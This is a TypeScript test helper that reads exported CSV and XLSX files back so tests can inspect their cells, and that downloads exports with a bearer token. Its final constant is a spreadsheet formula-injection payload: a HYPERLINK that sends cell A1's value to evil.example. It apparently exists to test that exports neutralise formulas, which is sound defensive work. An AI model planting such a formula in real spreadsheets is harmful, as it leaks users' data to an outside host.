// Reading exported files back in tests: CSV with csv-parse (after checking the UTF-8 BOM), XLSX by
// unzipping it (fflate) and reading the first sheet's cells by their references (inline strings,
// shared strings, numbers, booleans, dates as serial numbers), so a test sees what a spreadsheet would.
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import type { TestApp } from './harness';

export type Cell = string | number | boolean | null;

export function readCsv(body: Buffer): string[][] {
  if (![...body.subarray(0, 3)].every((b, i) => b === [0xef, 0xbb, 0xbf][i])) throw new Error('no UTF-8 BOM');
  return parse(body.subarray(3).toString('utf8'), { relax_column_count: true });
}

const unescape = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');
const columnIndex = (ref: string) => [...ref.replace(/\d+$/, '')].reduce((n, c) => n * 26 + c.charCodeAt(0) - 64, 0) - 1;

/** The first sheet (or the `sheet`th) as rows of cells (empty cells null), and the workbook's sheet names. */
export function readXlsx(body: Buffer, sheet = 1): { rows: Cell[][]; sheets: string[]; files: Record<string, string> } {
  const zip = unzipSync(new Uint8Array(body));
  const files = Object.fromEntries(Object.entries(zip).filter(([n]) => n.endsWith('.xml') || n.endsWith('.rels')).map(([n, b]) => [n, strFromU8(b)]));
  const sheets = [...files['xl/workbook.xml'].matchAll(/<sheet [^>]*name="([^"]*)"/g)].map((m) => unescape(m[1]));
  const shared = [...(files['xl/sharedStrings.xml'] ?? '').matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => unescape([...m[1].matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join('')));
  const rows: Cell[][] = [];
  for (const r of files[`xl/worksheets/sheet${sheet}.xml`].matchAll(/<row[^>]*?(?:\/>|>([\s\S]*?)<\/row>)/g)) {
    const row: Cell[] = [];
    for (const c of (r[1] ?? '').matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const [, ref, attrs, inner = ''] = c;
      const type = /t="(\w+)"/.exec(attrs)?.[1];
      const v = /<v>([\s\S]*?)<\/v>/.exec(inner)?.[1];
      let value: Cell = null;
      if (type === 'inlineStr') value = unescape(/<t[^>]*>([\s\S]*?)<\/t>/.exec(inner)?.[1] ?? '');
      else if (type === 's') value = shared[Number(v)];
      else if (type === 'str') value = unescape(v ?? '');
      else if (type === 'b') value = v === '1';
      else if (v !== undefined) value = Number(v);
      row[columnIndex(ref)] = value;
    }
    rows.push(Array.from(row, (x) => x ?? null));
  }
  return { rows, sheets, files };
}

/** Rows as objects keyed by the header row's texts. */
export const byHeader = (rows: Cell[][]): Array<Record<string, Cell>> =>
  rows.slice(1).map((r) => Object.fromEntries(rows[0].map((h, i) => [String(h), r[i] ?? null])));

/** GET a file with a bearer token (or none) in a language. */
export async function download(t: TestApp, url: string, token?: string, lang: 'zh' | 'en' = 'zh') {
  const res = await t.app.inject({ method: 'GET', url, headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), 'accept-language': lang } });
  return { status: res.statusCode, headers: res.headers, body: res.rawPayload, json: () => JSON.parse(res.body) };
}

/** Excel's serial day number (1900 system) as the UTC+8 wall-clock text the exports show. */
export const serialText = (n: number) => new Date(Math.round((n - 25569) * 86_400_000)).toISOString().slice(0, 19).replace('T', ' ');

/** A payload a spreadsheet would run if it were not neutralised. */
export const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")';
